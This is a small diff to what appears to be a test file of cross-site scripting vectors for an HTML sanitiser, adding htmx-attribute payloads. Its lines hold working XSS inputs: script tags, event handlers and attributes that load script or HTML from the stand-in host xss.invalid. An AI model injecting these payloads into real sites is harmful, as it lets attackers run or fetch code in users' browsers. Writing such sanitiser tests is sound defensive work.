@@ -8,6 +8,8 @@ from __future__ import annotations
 RUN = "window.xss=1"
 VECTORS = (
     f"<script>{RUN}</script>",
+    f'<b data-hx-on:click="{RUN}" data-hx-on:mousemove="{RUN}">£1m</b>',
+    "<p data-hx-get=//xss.invalid/x data-hx-trigger=load data-hx-swap=outerHTML>£1m</p>",
     f"<ScRiPt >{RUN}</sCrIpT >",
     "<script src=//xss.invalid/x.js></script>",
     f"<img src=x onerror={RUN}>",
